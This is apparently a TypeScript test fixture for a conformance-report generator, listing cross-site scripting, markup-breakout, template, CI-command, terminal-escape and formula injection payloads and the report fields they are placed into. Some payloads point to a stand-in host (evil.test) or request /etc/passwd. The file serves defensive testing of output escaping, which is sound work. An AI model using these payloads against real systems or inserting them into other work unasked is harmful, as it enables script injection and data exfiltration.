import type { CaseReport, ConformanceReport, ExchangeReport, Finding, ProviderReport } from '../../src/model/report.ts';
import { aCase, aFinding, anExchange, aProvider, aReport } from './support.ts';

/** Texts that have broken other people's reports (RELIABILITY §5.2). Each that could run sets `window.X`. */
export const payloads: Readonly<Record<string, string>> = {
  'image with a handler': '<img src=x onerror=window.X=1>',
  'svg with a handler': '<svg onload=window.X=1>',
  'quote, then svg': '"><svg onload=window.X=1>',
  'quote, then attribute': '" onmouseover="window.X=1" autofocus onfocus="window.X=1',
  'apostrophe, then call': "'-alert(1)-'",
  backticks: '`-alert(1)-`',
  'end of script': '</script><script>window.X=1</script>',
  'comment and script': '<!--<script>',
  'end of comment': '--><script>window.X=1</script>',
  'end of cdata': ']]><script>window.X=1</script>',
  'end of title': '</title><script>window.X=1</script>',
  'end of style': '</style><script>window.X=1</script>',
  'end of textarea': '</textarea><script>window.X=1</script>',
  'end of template': '</template><script>window.X=1</script>',
  'end of pre and details': '</pre></details></main><script>window.X=1</script>',
  'frame with a document': '<iframe srcdoc="<script>parent.X=1</script>"></iframe>',
  mathml: '<math><mtext><script>window.X=1</script></mtext></math>',
  base: '<base href=//evil.test/>',
  refresh: '<meta http-equiv=refresh content="0;url=//evil.test">',
  form: '<form action=//evil.test><input type=submit autofocus></form>',
  'dangling markup': "<img src='//evil.test?",
  'link with a tab': '<a href="java\tscript:window.X=1">x</a>',
  'data url': 'data:text/html,<script>window.X=1</script>',
  vbscript: 'vbscript:msgbox(1)',
  'client template': "{{constructor.constructor('window.X=1')()}}",
  'template literal': '${window.X=1}',
  'already encoded': '&lt;img src=x onerror=window.X=1&gt; &#60;b&#62; &amp;amp;',
  'line separator': 'a\u2028b\u2029c',
  'utf-7': '+ADw-script+AD4-window.X=1+ADw-/script+AD4-',
  'nul in a tag': '<scr\0ipt>window.X=1</scr\0ipt>',
  'terminal codes': '\u001b[31m<img src=x onerror=window.X=1>\u001b]8;;https://evil.test\u0007x\u009b2J',
  'no spaces': 'x'.repeat(20_000),
  'right to left': 'a\u202etxt.exe\u2066b\u200b\u200f\ufeff',
  'lone surrogate': 'a\ud800b\udc00',
  noncharacters: '\ufffe\uffff\u{1fffe}',
  'markdown fence': '```\n</pre><img src=x onerror=window.X=1>\n````',
  'markdown link': '[x](javascript:alert(1)) ![](//evil.test/i.png) @everyone #1 https://evil.test',
  'table cell': '| a | b |\n|---|---|',
  formula: '=HYPERLINK("https://evil.test","x")',
  doctype: '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
  'percent encoded': '%3Cimg src=x onerror=window.X=1%3E',
  'ci command':
    '::error::x\n##vso[task.setvariable variable=a]b\n##[add-path]x\n##teamcity[x]\nsection_start:1:a\r\u001b[0K',
  'order to attach a file': '[[ATTACHMENT|/etc/passwd]] [[attachment|a]]',
  'invalid utf-8 as read': '\ufffd"><script>window.X=1</script>',
  'prototype name': '__proto__',
};

type Place = (text: string) => ConformanceReport;
const exchange = (change: (base: ExchangeReport) => Partial<ExchangeReport>): ExchangeReport =>
  anExchange(change(anExchange()));
const inCase =
  (change: (text: string) => Partial<CaseReport>): Place =>
  (text) =>
    inProvider(() => ({ cases: [aCase(change(text))] }))(text);
const inFinding = (change: (text: string) => Partial<Finding>): Place =>
  inCase((text) => ({ verdict: 'fail', findings: [aFinding(change(text))] }));
const inExchange = (change: (text: string, base: ExchangeReport) => Partial<ExchangeReport>): Place =>
  inCase((text) => ({ verdict: 'fail', findings: [aFinding()], exchanges: [exchange((base) => change(text, base))] }));
const inResponse = (change: (text: string) => Partial<NonNullable<ExchangeReport['response']>>): Place =>
  inExchange((text, { response }) => (response === undefined ? {} : { response: { ...response, ...change(text) } }));
function inProvider(change: (text: string) => Partial<ProviderReport>): Place {
  return (text) => aReport({ providers: [aProvider(change(text))] });
}
const inRun =
  (change: (text: string) => Partial<ConformanceReport['run']>): Place =>
  (text) =>
    aReport({ run: { ...aReport().run, ...change(text) } });

/** Where such a text can come to stand in a report. */
export const places: Readonly<Record<string, Place>> = {
  'header name': inResponse((text) => ({ headers: [[text, 'value']] })),
  'header value': inResponse((text) => ({ headers: [['Location', text]] })),
  'several headers': inResponse((text) => ({
    headers: [
      ['Set-Cookie', text],
      ['WWW-Authenticate', text],
    ],
  })),
  'response body': inResponse((text) => ({ body: text })),
  'body as JSON': inResponse((text) => ({ body: JSON.stringify({ [text]: text, error_description: text }) })),
  'body, cut': inResponse((text) => ({ body: text, truncated: true })),
  'request URL': inExchange((text, { request }) => ({ request: { ...request, url: text } })),
  'request method': inExchange((text, { request }) => ({ request: { ...request, method: text } })),
  'request header': inExchange((text, { request }) => ({ request: { ...request, headers: [[text, text]] } })),
  'request body': inExchange((text, { request }) => ({ request: { ...request, body: text } })),
  curl: inExchange((text) => ({ curl: text })),
  'reason for no curl': inExchange((text) => ({ curl: null, curlReason: text })),
  failure: inCase((text) => ({
    verdict: 'error',
    exchanges: [
      {
        request: anExchange().request,
        failure: { code: text, phase: 'tls', attribution: 'network', message: text },
        timings: { headersMs: null, totalMs: 1 },
        curl: null,
      },
    ],
  })),
  'error of a case': inCase((text) => ({
    verdict: 'error',
    error: { code: text, phase: 'tls', attribution: 'target', message: text },
  })),
  'case id': inCase((text) => ({ id: `singapay-b2b/requestToken/${text}` })),
  'case title': inCase((text) => ({ title: text })),
  'case tag': inCase((text) => ({ tags: [text] })),
  'case reason': inCase((text) => ({ verdict: 'skip', reason: text })),
  'control of a case': inCase((text) => ({ control: text })),
  'finding message': inFinding((text) => ({ message: text })),
  'finding places': inFinding((text) => ({ message: `A title: a sentence.\nspec ${text}\ncase ${text}` })),
  'finding check': inFinding((text) => ({ check: text })),
  'finding pointer': inFinding((text) => ({ pointer: text })),
  'finding expected': inFinding((text) => ({ expected: text })),
  'finding actual': inFinding((text) => ({ actual: { [text]: [text] } })),
  'finding source': inFinding((text) => ({ requirement: { source: text, section: text, level: 'must' } })),
  'finding section': inFinding((text) => ({ requirement: { source: 'RFC 6749', section: text, level: 'must' } })),
  waiver: inFinding((text) => ({ waiver: { reason: text, owner: text, expires: text } })),
  'content type': inCase((text) => ({
    exchanges: [],
    observation: { status: 200, contentType: text, shape: text, members: {} },
  })),
  'body member': inCase((text) => ({
    observation: { status: 200, contentType: text, shape: text, members: { [text]: text } },
  })),
  'provider id': inProvider((text) => ({ id: text })),
  'provider title': inProvider((text) => ({ title: text })),
  'provider skipped': inProvider((text) => ({ skipped: text })),
  'spec file': inProvider((text) => ({ spec: { file: text, sha256: text, openapi: text } })),
  conflict: inProvider((text) => ({
    conflicts: [
      {
        id: text,
        question: text,
        readings: [{ id: text, evidence: [text] }],
        observed: text,
        accepted: 'other',
        decidedBy: [text],
      },
    ],
  })),
  silence: inProvider((text) => ({ silences: [{ id: text, question: text, observed: text, accepted: `${text}.` }] })),
  'evidence line': inProvider((text) => ({ evidence: [{ line: text, says: 'x', pointers: [], judgedBy: [] }] })),
  'evidence text': inProvider((text) => ({
    evidence: [{ line: 'S003:L1', says: text, pointers: [text], judgedBy: [text] }],
  })),
  'exit reason': inRun((text) => ({ exitCode: 1, exitReason: text })),
  'target name': inRun((text) => ({ target: { name: text, kind: 'http' } })),
  'run id and time': inRun((text) => ({ id: text, startedAt: text })),
  'author, commit, profile': inRun((text) => ({ by: text, commit: text, profile: text })),
  'tool version': (text) => aReport({ tool: { name: text, version: text } }),
};
